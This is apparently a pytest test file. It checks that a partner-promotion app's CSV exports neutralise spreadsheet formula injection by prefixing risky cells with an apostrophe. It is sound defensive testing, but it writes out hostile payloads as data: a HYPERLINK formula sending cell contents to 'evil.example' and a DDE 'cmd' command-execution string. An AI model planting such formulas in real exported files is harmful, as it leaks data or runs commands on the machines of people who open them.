"""Defect 7: text a partner wrote cannot become a spreadsheet formula in any CSV export."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from fastapi.testclient import TestClient
from sqlalchemy.orm import Session

from crosspromo.spreadsheets import DictWriter, Writer, cell
from tests.offers.conftest import make_offer
from tests.offers.partners import agree, link_codes

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("raw", "shown"),
    [
        ("=1+1", "'=1+1"),
        ("+7 912", "'+7 912"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("plain", "plain"),
        ("a=b", "a=b"),
        (-617, -617),
        (None, None),
    ],
)
def test_cell_neutralises_the_owasp_starts(raw: Any, shown: Any) -> None:
    assert cell(raw) == shown


def test_writers_apply_it_to_every_cell() -> None:
    buffer = io.StringIO()
    Writer(buffer).writerow(["=A1", -5, "ok"])
    table = DictWriter(buffer, ["a", "b"])
    table.writerows([{"a": "@x", "b": "+y"}])
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [
        ["'=A1", "-5", "ok"],
        ["'@x", "'+y"],
    ]


def test_partner_offer_title_is_inert_in_statement_and_codes_csv(
    client: TestClient, db: Session
) -> None:
    p = agree(client, db, payment_model="per_sale_percent", payment_percent="5")
    # the bakery (issuer) writes the title; the cafe exports it in its statement
    offer = make_offer(client, p, p["campaign_id"], title=FORMULA)
    code = link_codes(client, p, offer, kind="unique", count=1, label="-cmd|' /C calc'!A0")[0]
    made = client.post(
        "/api/v1/redemptions",
        headers=p["cafe_cashier"],
        json={"business_id": str(p["cafe"].id), "code": code["code"], "order_minor": 10000},
    )
    assert made.status_code == 201, made.text
    statement = client.get(
        f"/api/v1/businesses/{p['cafe'].id}/statements",
        headers=p["cafe_owner"],
        params={"partner": p["bakery"].slug, "format": "csv"},
    )
    assert statement.status_code == 200, statement.text
    rows = list(csv.reader(io.StringIO(statement.text)))
    titles = [r[2] for r in rows[1:] if r[1] == "sale"]
    assert titles == ["'" + FORMULA]
    assert all(not c.startswith(("=", "+", "@")) for r in rows for c in r)
    # amounts stay numbers
    assert [r[4] for r in rows[1:] if r[1] == "sale"] == ["500"]

    codes = client.get(
        f"/api/v1/offers/{offer['id']}/codes",
        headers=p["bakery_manager"],
        params={"format": "csv"},
    )
    assert codes.status_code == 200, codes.text
    listed = list(csv.DictReader(io.StringIO(codes.text)))
    assert [r["label"] for r in listed] == ["'-cmd|' /C calc'!A0"]
